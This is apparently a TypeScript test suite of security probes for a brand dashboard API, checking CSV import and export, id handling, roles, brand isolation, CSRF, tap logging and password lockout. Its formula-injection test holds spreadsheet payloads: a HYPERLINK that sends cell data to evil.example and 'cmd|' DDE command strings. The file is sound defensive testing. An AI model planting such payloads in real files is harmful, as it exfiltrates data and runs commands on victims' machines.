// Security review probes of the brand dashboard and the tap route (issues 11 and 12), on a real Postgres and the real
// API: each test states what must hold; a failing one is a finding (see the reviewer's report for file:line and fix).
import { expect } from "chai";
import { parse } from "csv-parse/sync";
import { mkdtempSync, rmSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { SMTPServer } from "smtp-server";
import { createBrand } from "../../api/src/brands/service";
import { startInProcessApi, type InProcessApi } from "../../scripts/lib/api-process";
import { freePort, waitFor } from "../../scripts/lib/processes";
import { dashboardClient, type DashboardClient } from "../support/dashboard";
import { createTestDatabase } from "../support/hooks";
import { json } from "../support/http";

const HEADER = "sku,name,category,price,description";
/** What a spreadsheet runs as a formula when a cell starts with it (OWASP "CSV injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;

describe("dashboard review: security and robustness probes", () => {
  let api: InProcessApi;
  let smtp: SMTPServer;
  let mailDir: string;
  let brandA: { id: number; slug: string };
  let brandB: { id: number; slug: string };
  let ownerA: DashboardClient;
  let adminA: DashboardClient;
  let editorA: DashboardClient;
  let ownerB: DashboardClient;

  before(async function () {
    this.timeout(120_000);
    smtp = new SMTPServer({ authOptional: true, disabledCommands: ["STARTTLS", "AUTH"], logger: false, onData: (stream, _s, cb) => stream.resume().on("end", () => cb()) });
    const smtpPort = await freePort();
    await new Promise<void>((resolve) => smtp.listen(smtpPort, "127.0.0.1", resolve));
    mailDir = mkdtempSync(path.join(os.tmpdir(), "dashboard-review-mail-"));
    api = await startInProcessApi({
      DATABASE_URL: await createTestDatabase("dashboard_review"),
      RPC_URL: `http://127.0.0.1:${await freePort()}`,
      SMTP_URL: `smtp://127.0.0.1:${smtpPort}`,
      MAIL_DIR: mailDir,
    });
    brandA = (await createBrand(api.db, { slug: "review-a", name: "Review A", uidPrefix: "RVA", plan: "growth" })).brand;
    brandB = (await createBrand(api.db, { slug: "review-b", name: "Review B", uidPrefix: "RVB" })).brand;
    ownerA = await dashboardClient(api.url, api.db, brandA.id, "owner");
    adminA = await dashboardClient(api.url, api.db, brandA.id, "admin");
    editorA = await dashboardClient(api.url, api.db, brandA.id, "editor");
    ownerB = await dashboardClient(api.url, api.db, brandB.id, "owner");
  });
  after(async () => {
    await api?.close();
    await new Promise<void>((resolve) => (smtp ? smtp.close(() => resolve()) : resolve()));
    if (mailDir) rmSync(mailDir, { recursive: true, force: true });
  });

  const upload = (client: DashboardClient, csv: string, headers: Record<string, string> = {}) =>
    client.call("/api/dashboard/imports", { method: "POST", headers: { "Content-Type": "text/csv", ...headers }, body: csv });

  async function importDone(client: DashboardClient, id: string) {
    return waitFor(
      `import ${id}`,
      async () => {
        const job = (await json(await client.call(`/api/dashboard/imports/${id}`))).data;
        return job.status === "running" ? undefined : job;
      },
      60_000,
      20,
    );
  }

  describe("CSV formula injection", () => {
    it("the errors CSV never hands a spreadsheet a cell that starts a formula (= + - @)", async () => {
      // An editor's upload with a failing row (price "ten") whose text cells are formulas; the owner downloads the
      // errors CSV and opens it in a spreadsheet.
      const csv =
        `${HEADER}\n` +
        `FORMULA-1,"=HYPERLINK(""https://evil.example/?""&A1,""Fix me"")",t-shirt,ten,"+cmd|' /C calc'!A0"\n` +
        `FORMULA-2,@SUM(1+1)*cmd|' /C calc'!A0,t-shirt,ten,"-2+3+cmd|' /C calc'!A0"\n`;
      const res = await upload(editorA, csv);
      expect(res.status, await res.clone().text()).to.equal(202);
      const job = await importDone(editorA, (await json(res)).data.id);
      expect(job.failed).to.equal(2);
      const errors = await ownerA.call(`/api/dashboard/imports/${job.id}/errors.csv`);
      expect(errors.status).to.equal(200);
      const rows = (parse(await errors.text(), { relax_column_count: true }) as string[][]).slice(1);
      const dangerous = rows.flatMap((row) => row.filter((cell) => FORMULA_START.test(cell)));
      expect(dangerous, "cells a spreadsheet would run").to.deep.equal([]);

      // The errors file uploaded again as it is: the import drops the apostrophes, so the same cells fail the same
      // way and come back exactly as before (no apostrophe doubled).
      const errorsText = await (await ownerA.call(`/api/dashboard/imports/${job.id}/errors.csv`)).text();
      const again = await upload(editorA, errorsText);
      expect(again.status).to.equal(202);
      const second = await importDone(editorA, (await json(again)).data.id);
      expect(second.failed).to.equal(2);
      expect(await (await ownerA.call(`/api/dashboard/imports/${second.id}/errors.csv`)).text()).to.equal(errorsText);
    });
  });

  describe("duplicate SKUs in a CSV import", () => {
    it("fails each row whose SKU the brand already uses, or an earlier row of the file has, and imports the rest", async () => {
      const existing = await editorA.call("/api/dashboard/products", { method: "POST", json: { sku: "CSV-DUP-OLD", name: "Old tee", category: "t-shirt", price: 10 } });
      expect(existing.status).to.equal(201);
      const holder = (await json(existing)).data.uid as string;
      const csv = `${HEADER}\nCSV-DUP-OLD,Again,t-shirt,10,\nCSV-DUP-NEW,First,t-shirt,10,\nCSV-DUP-NEW,Second,t-shirt,10,\nCSV-DUP-OK,Other,t-shirt,10,\n`;
      const res = await upload(editorA, csv);
      expect(res.status, await res.clone().text()).to.equal(202);
      const job = await importDone(editorA, (await json(res)).data.id);
      expect({ imported: job.imported, failed: job.failed }).to.deep.equal({ imported: 2, failed: 2 });
      const errors = (parse(await (await ownerA.call(`/api/dashboard/imports/${job.id}/errors.csv`)).text(), { relax_column_count: true }) as string[][]).slice(1);
      expect(errors.map((row) => [row[0], row[1]])).to.deep.equal([["CSV-DUP-OLD", "Again"], ["CSV-DUP-NEW", "Second"]]);
      expect(errors[0]!.at(-1)).to.include(holder);
      expect(errors[1]!.at(-1)).to.include("row 3");
      const rows = await api.db("app.products").where({ brand_id: brandA.id }).whereIn("sku", ["CSV-DUP-OLD", "CSV-DUP-NEW", "CSV-DUP-OK"]).select("sku", "name");
      expect(rows.map((r: { sku: string; name: string }) => `${r.sku} ${r.name}`).sort()).to.deep.equal(["CSV-DUP-NEW First", "CSV-DUP-OK Other", "CSV-DUP-OLD Old tee"]);
    });
  });

  describe("malformed ids answer 4xx, never 500", () => {
    it("PATCH /api/dashboard/team/:id with an id past int4 (the schema allows 10 digits)", async () => {
      const res = await ownerA.call("/api/dashboard/team/9999999999", { method: "PATCH", json: { role: "viewer" } });
      expect(res.status, await res.clone().text()).to.be.oneOf([404, 422]);
    });

    it("DELETE /api/dashboard/team/:id with an id past int4", async () => {
      const res = await ownerA.call("/api/dashboard/team/9999999999", { method: "DELETE" });
      expect(res.status, await res.clone().text()).to.be.oneOf([404, 422]);
    });

    it("GET /api/dashboard/audit?before= past int8 (the schema allows 19 digits)", async () => {
      const res = await ownerA.call("/api/dashboard/audit?before=9999999999999999999");
      expect(res.status, await res.clone().text()).to.be.oneOf([200, 422]);
    });

    it("GET /api/dashboard/imports/:id with the largest id the schema allows", async () => {
      const res = await ownerA.call("/api/dashboard/imports/9999999999999999");
      expect(res.status, await res.clone().text()).to.be.oneOf([404, 422]);
    });
  });

  describe("roles", () => {
    it("an admin cannot change an owner's pending invitation into another role by inviting the address again", async () => {
      const email = `pending-owner-${Date.now()}@test.local`;
      const invited = await ownerA.call("/api/dashboard/team/invitations", { method: "POST", json: { email, role: "owner" } });
      expect(invited.status, await invited.clone().text()).to.equal(201);
      // Only an owner changes an owner (docs/dashboard.md): PATCH refuses the admin, re-inviting must too.
      const patched = await adminA.call(`/api/dashboard/team/${(await json(invited)).data.member.id}`, { method: "PATCH", json: { role: "viewer" } });
      expect(patched.status).to.equal(403);
      const reinvited = await adminA.call("/api/dashboard/team/invitations", { method: "POST", json: { email, role: "viewer" } });
      const row = await api.db("app.brand_users").where({ email }).first();
      expect({ status: reinvited.status, role: row.role }).to.deep.equal({ status: 403, role: "owner" });
    });

    it("a session ends with its member's removal, and a role change applies to the next request", async () => {
      const member = await dashboardClient(api.url, api.db, brandA.id, "admin");
      const id = (await api.db("app.brand_users").where({ email: member.email }).first()).id;
      expect((await member.call("/api/dashboard/team")).status).to.equal(200);
      expect((await ownerA.call(`/api/dashboard/team/${id}`, { method: "PATCH", json: { role: "viewer" } })).status).to.equal(200);
      expect((await member.call("/api/dashboard/team")).status).to.equal(403);
      expect((await ownerA.call(`/api/dashboard/team/${id}`, { method: "DELETE" })).status).to.equal(204);
      expect((await member.call("/api/dashboard/session")).status).to.equal(401);
    });
  });

  describe("one brand never reaches another's data", () => {
    it("imports, team members and API keys of brand A answer 404 to brand B's owner", async () => {
      const res = await upload(editorA, `${HEADER}\nCROSS-1,,t-shirt,10,\n`);
      const job = await importDone(editorA, (await json(res)).data.id);
      expect((await ownerB.call(`/api/dashboard/imports/${job.id}`)).status).to.equal(404);
      expect((await ownerB.call(`/api/dashboard/imports/${job.id}/errors.csv`)).status).to.equal(404);

      const memberId = (await api.db("app.brand_users").where({ email: editorA.email }).first()).id;
      expect((await ownerB.call(`/api/dashboard/team/${memberId}`, { method: "PATCH", json: { role: "owner" } })).status).to.equal(404);
      expect((await ownerB.call(`/api/dashboard/team/${memberId}`, { method: "DELETE" })).status).to.equal(404);

      const key = await json(await ownerA.call("/api/dashboard/api-keys", { method: "POST", json: { label: "a" } }));
      expect((await ownerB.call(`/api/dashboard/api-keys/${key.data.id}/rotate`, { method: "POST", json: {} })).status).to.equal(404);
      expect((await ownerB.call(`/api/dashboard/api-keys/${key.data.id}`, { method: "DELETE" })).status).to.equal(404);
      expect((await api.db("app.api_keys").where({ id: key.data.id }).first()).revoked_at).to.equal(null);
    });
  });

  describe("CSRF on raw-body uploads", () => {
    it("the CSV import and the logo upload refuse a request without the session's token", async () => {
      const csv = await upload(editorA, `${HEADER}\nCSRF-1,Tee,t-shirt,10,\n`, { "X-CSRF-Token": "" });
      expect(csv.status).to.equal(403);
      const logo = await ownerA.call("/api/dashboard/branding/logo", { method: "PUT", headers: { "Content-Type": "image/png", "X-CSRF-Token": "x" }, body: Buffer.from("x") });
      expect(logo.status).to.equal(403);
      const crossSite = await upload(editorA, `${HEADER}\nCSRF-2,Tee,t-shirt,10,\n`, { Origin: "https://evil.example" });
      expect(crossSite.status).to.equal(403);
    });
  });

  describe("the public tap route", () => {
    it("one client's stream of forged taps does not write a tap row per request without bound", async function () {
      this.timeout(60_000);
      const created = await editorA.call("/api/dashboard/products", { method: "POST", json: { sku: "TAP-1", name: "Tap tee", category: "t-shirt", fabric_type: "cotton", price: 10 } });
      expect(created.status, await created.clone().text()).to.equal(201);
      const uid = (await json(created)).data.uid as string;
      const forged = `picc_data=${"A".repeat(32)}&cmac=${"B".repeat(16)}`;
      for (let i = 0; i < 60; i += 1) {
        const res = await fetch(`${api.url}/api/scan/${uid}?${forged}`);
        expect(res.status).to.equal(200);
      }
      const [{ count }] = await api.db("app.tag_taps").where({ brand_id: brandA.id }).count<Array<{ count: string }>>({ count: "*" });
      // The scan counter bounds a client to 20 counted scans an hour; the tap log should be bounded as well.
      expect(Number(count), "tag_taps rows written by 60 anonymous requests").to.be.at.most(20);
    });
  });
  describe("tag provisioning follows the chain", () => {
    it("may not move a bound tag to another product, nor turn a tag with signed taps into a plain one", async () => {
      const product = async (sku: string) =>
        (await json(await editorA.call("/api/dashboard/products", { method: "POST", json: { sku, name: `Tee ${sku}`, category: "t-shirt", price: 990 } }))).data.uid as string;
      const [first, second] = [await product("PROV-1"), await product("PROV-2")];
      const provision = (body: unknown) => editorA.call("/api/dashboard/tags/provision", { method: "POST", json: body });
      expect((await provision({ chip: "NTAG424", tag_uids: ["04AABBCCDDEE01"], product_uids: [first] })).status).to.equal(200);
      // Again for the same product (a key rotation) is fine; for another product it is a 409 naming where it is.
      expect((await provision({ chip: "NTAG424", tag_uids: ["04AABBCCDDEE01"], product_uids: [first] })).status).to.equal(200);
      const moved = await provision({ chip: "NTAG424", tag_uids: ["04AABBCCDDEE01"], product_uids: [second] });
      expect(moved.status).to.equal(409);
      expect((await json(moved)).error.message).to.include(first);
      const bound = await api.db("app.tags as t").join("app.products as p", "p.id", "t.product_id").where("t.tag_uid", "04AABBCCDDEE01").first("p.uid");
      expect(bound.uid).to.equal(first);

      // Once the tag has signed a tap, it stays an NTAG 424 DNA.
      await api.db("app.tags").where({ tag_uid: "04AABBCCDDEE01" }).update({ last_counter: 3 });
      const plain = await provision({ chip: "NTAG215", tag_uids: ["04AABBCCDDEE01"] });
      expect(plain.status).to.equal(409);
      expect((await api.db("app.tags").where({ tag_uid: "04AABBCCDDEE01" }).first("chip")).chip).to.equal("NTAG424");
    });
  });
  describe("own password", () => {
    it("locks guesses of the current password from a live session after 10 failures (429), as sign-in does", async function () {
      this.timeout(60_000);
      const viewer = await dashboardClient(api.url, api.db, brandA.id, "viewer");
      const change = (current: string) => viewer.call("/api/dashboard/password", { method: "POST", json: { current_password: current, password: "a brand new password" } });
      const statuses: number[] = [];
      for (let i = 0; i < 11; i++) statuses.push((await change(`wrong guess ${i}`)).status);
      expect(statuses.slice(0, 10)).to.deep.equal(Array(10).fill(422));
      expect(statuses[10]).to.equal(429);
      // Even the right password waits out the lock.
      expect((await change(viewer.password)).status).to.equal(429);
    });
  });
});
